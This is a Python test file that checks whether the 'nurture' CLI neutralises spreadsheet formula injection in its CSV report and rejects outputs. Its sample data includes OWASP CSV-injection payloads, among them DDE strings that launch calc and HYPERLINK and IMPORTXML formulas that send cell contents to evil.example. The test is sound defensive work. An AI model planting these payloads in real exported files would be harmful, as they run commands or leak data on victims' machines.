"""Lead data that a spreadsheet would run as a formula stays text in every CSV nurture writes.

Leads carry `=HYPERLINK(...)`, `+cmd|' /C calc'!A0`, `@SUM(...)`, `-2+3+cmd` as a source tag, in an owner's
address, or as the email of a rejected row. They go in through `nurture leads import` and come out through
`nurture report --format csv` (every `--by`) and `leads import --rejects`, read back with csv.reader: no
cell starts with `=`, `+`, `-`, `@`, a tab or a CR unless it is a plain number, and each payload is there
with the single quote OWASP recommends in front of it.
"""

from __future__ import annotations

import csv
import io
import re
import string
import tempfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from nurture.db.queries.report import GroupBy
from tests.harness.cli import Cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
OWASP_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
)

# Text a lead's import keeps exactly as written: printable ASCII without spaces.
_KEPT = st.text(alphabet=string.ascii_letters + string.digits + string.punctuation, min_size=1, max_size=24)
payloads = st.builds(lambda t, body: t + body, st.sampled_from("=+-@"), _KEPT)
owners = st.builds(
    lambda t, local: f"{t}{local}@example.com",
    st.sampled_from("=+-"),
    st.text(alphabet=string.ascii_lowercase + string.digits, min_size=1, max_size=8),
)


def neutralised(text: str) -> str:
    """What a cell holding `text` must read back as: a plain number as it is, anything else quoted."""
    return text if PLAIN_NUMBER.fullmatch(text) else "'" + text


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(cell), (cell, row)


def write_leads(path: Path, sources: list[str], owner_list: list[str]) -> list[str]:
    """Good leads with hostile sources and owners, then one rejected row per source; the rejected emails."""
    bad_emails = [f"{s}@" for s in sources]  # a second `@` or an empty domain: never an address
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "source", "owner"])
        for i, source in enumerate(sources):
            writer.writerow([f"lead{i}@example.com", source, owner_list[i % len(owner_list)]])
        writer.writerows([email, "x", ""] for email in bad_emails)
    return bad_emails


# Each example is five commands (about 20 s on a busy machine), so few examples of many payloads each.
@settings(max_examples=2, deadline=None)
@given(
    generated=st.lists(payloads, min_size=10, max_size=40, unique=True),
    owner_list=st.lists(owners, min_size=1, max_size=5, unique=True),
)
def test_formula_cells_from_leads_come_out_quoted_in_the_report_and_the_rejects_file(
    generated: list[str], owner_list: list[str]
) -> None:
    with tempfile.TemporaryDirectory() as name:
        check_outputs(Path(name), generated, owner_list)


def check_outputs(folder: Path, generated: list[str], owner_list: list[str]) -> None:
    sources = list(dict.fromkeys([*OWASP_PAYLOADS, *generated]))
    bad_emails = write_leads(folder / "leads.csv", sources, owner_list)

    cli = Cli.in_folder(folder)
    imported = cli("leads", "import", "leads.csv", "--rejects", "rejects.csv")
    assert imported.returncode == 0, imported.stderr
    rejects = cells((folder / "rejects.csv").read_text(encoding="utf-8"))
    assert_no_formula(rejects)
    shown = [r[1] for r in rejects[1:]]
    assert len(shown) == len(bad_emails)
    for cell, email in zip(shown, bad_emails, strict=True):  # a long rejected value is cut, with "..."
        assert cell == neutralised(email) or (
            cell.endswith("...") and neutralised(email).startswith(cell[:-3])
        )

    keys: dict[GroupBy, set[str]] = {}
    for by in GroupBy:
        report = cli("report", "--format", "csv", "--by", str(by))
        assert report.returncode == 0, report.stderr
        rows = cells(report.stdout)
        assert_no_formula(rows)
        keys[by] = {r[1] for r in rows if r[0] == f"by_{by}"}
    assert {neutralised(s) for s in sources} <= keys[GroupBy.source]
    assert {"'" + o for o in owner_list} <= keys[GroupBy.owner]
